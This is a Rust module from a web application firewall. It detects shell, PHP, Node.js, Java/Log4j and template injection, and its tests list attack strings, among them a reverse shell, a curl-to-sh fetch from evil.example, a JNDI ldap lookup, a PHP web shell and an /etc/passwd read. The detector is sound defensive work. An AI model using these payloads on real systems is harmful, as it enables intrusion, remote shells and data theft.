//! Command and code injection: a shell command after a shell separator (Unix and Windows, with
//! the quoting and `$IFS` tricks shells ignore undone first), command substitution, and the
//! markers of PHP, Node.js, Java and template code.

use super::normalize::{calls, contains_any, has_word, Present};

pub const UNIX_COMMAND: u32 = 932100;
pub const WINDOWS_COMMAND: u32 = 932110;
pub const SUBSTITUTION: u32 = 932120;
pub const SHELL_EVASION: u32 = 932130;
pub const SHELL_PATH: u32 = 932140;
pub const WINDOWS_SHELL: u32 = 932150;
pub const PHP_TAG: u32 = 933100;
pub const PHP_WRAPPER: u32 = 933110;
pub const PHP_GLOBALS: u32 = 933120;
pub const PHP_FUNCTION: u32 = 933130;
pub const PHP_OBJECT: u32 = 933140;
pub const PHP_GENERIC: u32 = 933150;
pub const NODE_PROCESS: u32 = 934100;
pub const PROTOTYPE: u32 = 934110;
pub const CONSTRUCTOR: u32 = 934120;
pub const TEMPLATE: u32 = 934130;
pub const TEMPLATE_EXPRESSION: u32 = 934140;
pub const JAVA_RUNTIME: u32 = 944100;
pub const JNDI: u32 = 944110;
pub const EXPRESSION_LANGUAGE: u32 = 944120;
pub const JAVA_SERIALIZED: u32 = 944130;
pub const CLASS_LOADER: u32 = 944140;

/// Commands that are not English words: found after any separator.
const UNIX_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "tcsh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "chmod",
    "chown",
    "ifconfig",
    "netstat",
    "base64",
    "xxd",
    "nohup",
    "telnet",
    "crontab",
    "useradd",
    "usermod",
    "sudo",
    "systemctl",
    "mkfifo",
    "socat",
    "nmap",
    "ls",
    "lsof",
    "ps",
    "pwd",
    "uptime",
    "passwd",
    "busybox",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "tftp",
    "scp",
    "ssh",
    "rm",
    "rmdir",
    "killall",
    "pkill",
    "dig",
    "traceroute",
    "openssl",
    "gcc",
    "tar",
    "unzip",
    "gzip",
    "zcat",
    "sleep",
    "printenv",
    "hostname",
    "ifup",
    "iptables",
];
/// Commands that are also words ("find", "cat"): found only with an argument a shell takes.
const UNIX_WORDS: &[&str] = &[
    "cat", "id", "echo", "env", "export", "find", "head", "tail", "more", "less", "kill", "touch",
    "mail", "which", "who", "w", "last", "host", "cp", "mv", "dd", "tee", "grep", "sort", "uniq",
    "diff", "file", "top", "time", "set", "exec", "eval", "source", "su",
];
const WINDOWS_COMMANDS: &[&str] = &[
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "wmic",
    "schtasks",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "findstr",
    "net",
    "net1",
    "reg",
    "whoami",
    "nslookup",
    "ping",
    "type",
    "dir",
    "del",
    "copy",
    "ver",
    "hostname",
    "netsh",
    "sc",
    "attrib",
    "icacls",
];

/// Injection markers in a folded value.
pub fn detect(folded: &str, hits: &mut Vec<u32>) {
    let present = Present::of(folded);
    if present.any(b"$")
        && (folded.contains("$ifs")
            || folded.contains("${ifs")
            || folded.contains("$@") && present.any(b"/;|"))
    {
        hits.push(SHELL_EVASION);
    }
    if present.any(b";|&`({") {
        // Shells drop quotes and backslashes inside words and read $IFS as a space; cmd drops `^`.
        let spaced = if present.any(b"$") {
            folded
                .replace("${ifs}", " ")
                .replace("$ifs$9", " ")
                .replace("$ifs", " ")
        } else {
            folded.to_string()
        };
        let shell: String = spaced
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
            .collect();
        shell_commands(&shell, hits);
        if shell.contains('/') && contains_any(&shell, SHELL_PATHS) {
            hits.push(SHELL_PATH);
        }
        windows_shell(&shell, hits);
    } else {
        if present.any(b"/") && contains_any(folded, SHELL_PATHS) {
            hits.push(SHELL_PATH);
        }
        windows_shell(folded, hits);
    }
    if present.any(b"<$:(") {
        php(folded, hits);
    }
    if present.any(b"_.([") {
        node(folded, hits);
    }
    java(folded, present, hits);
    if present.any(b"{%<")
        && (folded.contains("{{")
            || folded.contains("{%")
            || folded.contains("${")
            || folded.contains("#{")
            || folded.contains("<%"))
    {
        templates(folded, hits);
    }
}

const SHELL_PATHS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/dev/tcp/",
    "/dev/udp/",
    "/usr/bin/env",
    "/bin/busybox",
];

fn windows_shell(shell: &str, hits: &mut Vec<u32>) {
    const INVOCATIONS: &[&str] = &[
        "cmd /c",
        "cmd.exe /c",
        "cmd /k",
        "cmd.exe /k",
        "powershell -",
        "powershell.exe -",
        "pwsh -",
        "%comspec%",
        "invoke-expression",
        "iex(",
        "downloadstring(",
        "-encodedcommand",
    ];
    if shell.contains(['/', '-', '%', '(']) && contains_any(shell, INVOCATIONS) {
        hits.push(WINDOWS_SHELL);
    }
}

/// A command word after a separator, or inside `$( )` or backticks.
fn shell_commands(shell: &str, hits: &mut Vec<u32>) {
    let bytes = shell.as_bytes();
    for (at, c) in shell.char_indices() {
        let substitution = match c {
            '`' => true,
            '(' => at > 0 && bytes[at - 1] == b'$',
            ';' | '|' | '&' | '\n' => false,
            '{' => at == 0 || bytes[at - 1] != b'$',
            _ => continue,
        };
        let mut rest = shell[at + 1..].trim_start_matches(['&', '|', ' ', '{', '(', '!']);
        // A path before the command (`/bin/cat`, `/usr/bin/id`) runs the same command.
        if rest.starts_with('/') {
            let end = rest.find(' ').unwrap_or(rest.len());
            let word = &rest[..end];
            if let Some(slash) = word.rfind('/') {
                rest = &rest[slash + 1..];
            }
        }
        let len = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            .count();
        let word = &rest[..len];
        if word.is_empty() {
            continue;
        }
        let after = &rest[len..];
        let argument = after.is_empty()
            || after.starts_with([';', '|', '&', '`', ')', '>', '<', '$', ','])
            || after.strip_prefix(' ').is_some_and(|a| {
                a.is_empty()
                    || a.starts_with(['-', '/', '$', '.', '~', '|', ';', '>', '<', '`', '*'])
            });
        let unix = UNIX_COMMANDS.contains(&word)
            && (after.is_empty() || !after.starts_with(['.', '-']) || argument);
        let unix_word = UNIX_WORDS.contains(&word) && argument;
        if substitution && (UNIX_COMMANDS.contains(&word) || UNIX_WORDS.contains(&word)) {
            hits.push(SUBSTITUTION);
        } else if unix || unix_word {
            hits.push(UNIX_COMMAND);
        }
        let windows_argument = argument
            || after.strip_prefix(' ').is_some_and(|a| {
                a.starts_with(['/', '%'])
                    || a.as_bytes().get(1) == Some(&b':')
                    || a.starts_with("user")
                    || a.starts_with("localgroup")
            });
        if c != ';'
            && WINDOWS_COMMANDS.contains(&word)
            && windows_argument
            && !matches!(
                word,
                "type" | "dir" | "del" | "copy" | "ver" | "net" | "sc" | "reg" | "ping"
            )
            || c != ';'
                && matches!(word, "type" | "dir" | "del" | "copy" | "net" | "reg" | "sc")
                && after.strip_prefix(' ').is_some_and(|a| {
                    a.as_bytes().get(1) == Some(&b':')
                        || a.starts_with('%')
                        || a.starts_with("user")
                        || a.starts_with("localgroup")
                        || a.starts_with("query")
                        || a.starts_with("add ")
                })
        {
            hits.push(WINDOWS_COMMAND);
        }
    }
}

fn php(folded: &str, hits: &mut Vec<u32>) {
    if folded.contains("<?php") || folded.contains("<?=") || folded.contains("<? ") {
        hits.push(PHP_TAG);
    }
    if contains_any(
        folded,
        &[
            "php://",
            "phar://",
            "zlib://",
            "glob://",
            "data://",
            "expect://",
            "zip://",
            "ogg://",
            "rar://",
            "ssh2.",
        ],
    ) {
        hits.push(PHP_WRAPPER);
    }
    if contains_any(
        folded,
        &[
            "$_get",
            "$_post",
            "$_request",
            "$_server",
            "$_cookie",
            "$_files",
            "$_env",
            "$globals",
            "$_session",
            "$http_raw_post_data",
        ],
    ) {
        hits.push(PHP_GLOBALS);
    }
    const RISKY: &[&str] = &[
        "shell_exec",
        "passthru",
        "proc_open",
        "popen",
        "pcntl_exec",
        "phpinfo",
        "base64_decode",
        "gzinflate",
        "gzuncompress",
        "str_rot13",
        "create_function",
        "call_user_func",
        "call_user_func_array",
        "file_put_contents",
        "file_get_contents",
        "move_uploaded_file",
        "preg_replace",
        "array_map",
        "assert",
        "fsockopen",
        "show_source",
        "highlight_file",
        "posix_getpwuid",
        "ini_set",
        "unserialize",
        "extract",
        "parse_str",
        "putenv",
    ];
    const GENERIC: &[&str] = &[
        "system", "exec", "eval", "include", "require", "fopen", "readfile",
    ];
    if folded.contains('(') {
        if calls(folded, RISKY, b"") {
            hits.push(PHP_FUNCTION);
        }
        if calls(folded, GENERIC, b"") {
            hits.push(PHP_GENERIC);
        }
    }
    // Serialized PHP objects: `O:8:"stdClass":1:{…}`.
    let bytes = folded.as_bytes();
    if folded.contains(":\"")
        && folded.match_indices("o:").any(|(at, _)| {
            let digits = bytes[at + 2..]
                .iter()
                .take_while(|b| b.is_ascii_digit())
                .count();
            digits > 0
                && folded[at + 2 + digits..].starts_with(":\"")
                && (at == 0 || !bytes[at - 1].is_ascii_alphanumeric())
        })
    {
        hits.push(PHP_OBJECT);
    }
}

fn node(folded: &str, hits: &mut Vec<u32>) {
    let words = [
        "child_process",
        "process",
        "require",
        "_",
        "__proto__",
        "constructor",
        "prototype",
    ];
    if !has_word(folded, &words) && !folded.contains("$$nd_func") {
        return;
    }
    if contains_any(
        folded,
        &[
            "child_process",
            "process.mainmodule",
            "process.binding",
            "process.env",
            "global.process",
            "require('fs')",
            "require(\"fs\")",
            "_$$nd_func$$_",
            "process.kill",
            "process.exit",
        ],
    ) {
        hits.push(NODE_PROCESS);
    }
    if folded.contains("__proto__")
        || folded.contains("constructor.prototype")
        || folded.contains("constructor[prototype]")
        || folded.contains("[constructor][prototype]")
    {
        hits.push(PROTOTYPE);
    }
    if folded.contains("constructor.constructor")
        || folded.contains("constructor(") && folded.contains(".constructor")
        || folded.contains("[constructor]")
    {
        hits.push(CONSTRUCTOR);
    }
}

fn java(folded: &str, present: Present, hits: &mut Vec<u32>) {
    if folded.contains("ro0ab") || folded.contains("aced0005") || folded.contains("h4siaaaaaaaa") {
        hits.push(JAVA_SERIALIZED);
    }
    let words = [
        "java",
        "javax",
        "getruntime",
        "processbuilder",
        "scriptenginemanager",
        "getmethod",
        "newinstance",
        "getclass",
        "xwork",
        "ognl",
        "classloader",
        "jndi",
        "lower",
        "upper",
    ];
    if !present.any(b"%#@$") && !has_word(folded, &words) {
        return;
    }
    let squeezed: String = folded.chars().filter(|c| !c.is_whitespace()).collect();
    if contains_any(
        &squeezed,
        &[
            "java.lang.runtime",
            "getruntime()",
            "java.lang.processbuilder",
            "processbuilder(",
            "java.lang.system",
            "javax.script",
            "scriptenginemanager",
            "java.io.file",
            "java.net.url",
            "java.lang.reflect",
            "getmethod(",
            "newinstance(",
        ],
    ) {
        hits.push(JAVA_RUNTIME);
    }
    if squeezed.contains("${")
        && (squeezed.contains("${jndi") || lookups_resolved(&squeezed).contains("${jndi:"))
    {
        hits.push(JNDI);
    }
    if [
        "%{(#",
        "%{#",
        "#_memberaccess",
        "@java.lang",
        "#context[",
        "#request[",
        "t(java.",
        "new java.",
        ".getclass()",
        "#{t(",
        "${t(",
        "xwork.methodaccessor",
        "ognl",
    ]
    .iter()
    .any(|w| squeezed.contains(w))
    {
        hits.push(EXPRESSION_LANGUAGE);
    }
    if squeezed.contains("class.module.classloader")
        || squeezed.contains("class.classloader")
        || squeezed.contains("classloader.resources")
        || squeezed.contains(".classloader.")
    {
        hits.push(CLASS_LOADER);
    }
}

/// Log4j's nested lookups undone: `${lower:j}`, `${upper:N}`, `${::-d}`, `${env:X:-i}` become
/// the letter they yield, so `${${lower:j}ndi:` reads `${jndi:`.
fn lookups_resolved(squeezed: &str) -> String {
    let mut text = squeezed.to_string();
    for _ in 0..4 {
        let mut changed = false;
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while let Some(at) = rest.find("${") {
            out.push_str(&rest[..at]);
            let inner = &rest[at + 2..];
            let Some(end) = inner.find('}') else {
                out.push_str(&rest[at..]);
                rest = "";
                break;
            };
            let body = &inner[..end];
            if body.contains("${") {
                out.push_str("${");
                rest = inner;
                continue;
            }
            let yielded = body
                .rsplit_once(":-")
                .map(|(_, default)| default)
                .or_else(|| body.strip_prefix("lower:"))
                .or_else(|| body.strip_prefix("upper:"))
                .map(str::to_string);
            match yielded {
                Some(v) => {
                    out.push_str(&v);
                    changed = true;
                }
                None => {
                    out.push_str("${");
                    out.push_str(body);
                    out.push('}');
                }
            }
            rest = &inner[end + 1..];
        }
        out.push_str(rest);
        text = out;
        if !changed {
            break;
        }
    }
    text
}

fn templates(folded: &str, hits: &mut Vec<u32>) {
    const INTERNALS: &[&str] = &[
        "__class__",
        "__mro__",
        "__subclasses__",
        "__globals__",
        "__builtins__",
        "__import__",
        "__init__",
        "config.items",
        "self._",
        "request.application",
        "lipsum.",
        "cycler.",
        "joiner.",
        "namespace.",
        "getruntime",
        "freemarker.template",
        "?new(",
        "constructor",
        "#set(",
        "$class.inspect",
        "_self.env",
        "registerundefinedfiltercallback",
    ];
    if contains_any(folded, INTERNALS) {
        hits.push(TEMPLATE);
    }
    let expression = ["{{", "${", "#{", "<%="].iter().any(|open| {
        folded.match_indices(open).any(|(at, _)| {
            let inside = &folded[at + open.len()..];
            let mut end = inside.find(['}', '%']).unwrap_or(inside.len()).min(64);
            while !inside.is_char_boundary(end) {
                end -= 1;
            }
            let body = &inside[..end];
            body.bytes().any(|b| b.is_ascii_digit()) && body.contains(['*', '+', '-', '/'])
        })
    });
    if expression {
        hits.push(TEMPLATE_EXPRESSION);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::firewall::normalize::{decode, fold};

    fn rules(value: &str) -> Vec<u32> {
        let mut hits = Vec::new();
        detect(&fold(&decode(value, true).0), &mut hits);
        hits.retain(|r| *r != PHP_GENERIC && *r != TEMPLATE_EXPRESSION);
        hits.sort_unstable();
        hits.dedup();
        hits
    }

    #[test]
    fn commands_and_code_are_found() {
        for (attack, rule) in [
            ("; cat /etc/passwd", UNIX_COMMAND),
            ("| id", UNIX_COMMAND),
            ("&& whoami", UNIX_COMMAND),
            ("x;w'h'o'a'm'i", UNIX_COMMAND),
            ("1;c\\at${IFS}/etc/passwd", SHELL_EVASION),
            ("$(curl http://evil.example/x|sh)", SUBSTITUTION),
            ("`uname -a`", SUBSTITUTION),
            ("; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", SHELL_PATH),
            ("| ping -c 3 example.com", UNIX_COMMAND),
            ("& ipconfig /all", WINDOWS_COMMAND),
            ("| type c:\\windows\\win.ini", WINDOWS_COMMAND),
            ("& net user", WINDOWS_COMMAND),
            ("& p^o^w^e^r^s^h^e^l^l -enc AAAA", WINDOWS_SHELL),
            ("<?php system($_GET['c']); ?>", PHP_TAG),
            (
                "php://filter/convert.base64-encode/resource=index.php",
                PHP_WRAPPER,
            ),
            ("eval(base64_decode('ZWNobyAx'))", PHP_FUNCTION),
            ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", PHP_OBJECT),
            ("require('child_process').exec('id')", NODE_PROCESS),
            ("{\"__proto__\":{\"admin\":true}}", PROTOTYPE),
            ("constructor.constructor('return process')()", CONSTRUCTOR),
            ("${jndi:ldap://evil.example/a}", JNDI),
            ("${${lower:j}${upper:n}di:ldap://x/a}", JNDI),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", JNDI),
            (
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                EXPRESSION_LANGUAGE,
            ),
            ("T(java.lang.Runtime).getRuntime().exec('id')", JAVA_RUNTIME),
            ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", JAVA_SERIALIZED),
            (
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                CLASS_LOADER,
            ),
            ("{{''.__class__.__mro__[1].__subclasses__()}}", TEMPLATE),
        ] {
            assert!(
                rules(attack).contains(&rule),
                "{attack}: {:?}",
                rules(attack)
            );
        }
    }

    #[test]
    fn ordinary_text_passes() {
        for benign in [
            "Tom & Jerry",
            "salt & pepper; more later",
            "cats & dogs",
            "Q&A; find us on the map",
            "rock | roll",
            "I love python and ruby",
            "the id of the order",
            "Price: $5 (approx.)",
            "see also: type theory",
            "constructor of the house",
            "hello {{name}}",
            "net income & profit",
            "a/b/c; d",
            "Dear Sir; please find attached",
        ] {
            assert_eq!(rules(benign), Vec::<u32>::new(), "{benign} refused");
        }
    }
}
